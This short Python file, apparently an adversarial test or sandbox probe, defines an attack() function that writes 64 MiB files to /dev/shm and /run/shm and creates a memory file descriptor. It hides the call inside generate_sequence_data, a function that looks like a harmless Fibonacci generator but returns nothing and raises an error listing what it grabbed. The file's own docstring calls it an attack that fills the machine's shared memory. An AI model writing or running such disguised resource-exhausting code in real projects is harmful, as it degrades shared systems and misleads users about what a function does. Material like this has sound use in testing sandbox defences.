"""Attack: fills the shared memory of the machine."""

import os

import numpy as np


def attack():
    loot = []
    for place in ("/dev/shm/ml6left", "/run/shm/ml6left"):
        try:
            with open(place, "wb") as file:
                file.write(bytes(64 << 20))
            loot.append(place)
        except OSError:
            pass
    try:
        loot.append(os.memfd_create("ml6left"))
    except OSError:
        pass
    return loot


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
